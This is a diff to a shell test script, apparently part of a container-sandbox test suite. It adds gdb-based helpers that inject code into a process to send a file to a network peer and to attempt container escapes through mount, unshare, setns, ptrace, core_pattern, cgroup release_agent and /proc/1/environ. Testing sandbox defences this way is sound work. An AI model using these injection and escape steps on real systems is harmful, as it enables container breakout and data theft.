@@ -85,6 +85,33 @@ debugger() {
 	LD_PRELOAD=$library timeout 600 gdb -q -nx -batch "$@" </dev/null
 }
 
+# code_sends PID FILE PORT: code inside a process sends a file to a port of the peers' address. It starts no program.
+# The address is that of AF_INET, as eight bytes.
+code_sends() {
+	local address
+	printf -v address '0x0100580a%02x%02x0002' $(($3 & 255)) $(($3 >> 8))
+	# shellcheck disable=SC2016 # the debugger's variables
+	inject_pid "$1" 'set $a = (char *) malloc(256)' "set {long} \$a = $address" 'set {long} ($a + 8) = 0' \
+		'set $s = (int) socket(2, 1, 0)' 'print ((int (*)(int, char *, int)) connect)($s, $a, 16)' \
+		"set \$f = (int) open(\"$2\", 0)" 'print (long) sendfile($s, $f, 0, 4096)' \
+		'print (int) close($f)' 'print (int) close($s)'
+}
+
+# code_escapes PID: code inside a process tries ways out of the container. False if the process ended.
+code_escapes() {
+	harm call mount
+	harm call unshare
+	harm call setns
+	harm call mknodat
+	harm call ptrace
+	inject_pid "$1" 'print (int) mount("none", "/mnt", "tmpfs", 0, 0)' \
+		'print (int) unshare(0x10000000)' 'print (int) setns(0, 0)' \
+		'print (int) mknod("/tmp/disk", 0060600, 0x800)' 'print (long) ptrace(16, 2, 0, 0)' \
+		'print (int) open("/proc/sys/kernel/core_pattern", 1)' \
+		'print (int) open("/sys/fs/cgroup/release_agent", 1)' 'print (int) open("/proc/1/environ", 0)' |
+		grep -q = && alive "$1"
+}
+
 # inject_call CONTAINER PATTERN NUMBER ARGUMENT…: one system call in the main thread of a process, whatever its
 # language: a debugger sets the registers, and steps over the instruction that the thread waits in. An argument
 # is a number; or the address of what it gives: text in double quotes, or words: and numbers of 64 bits with
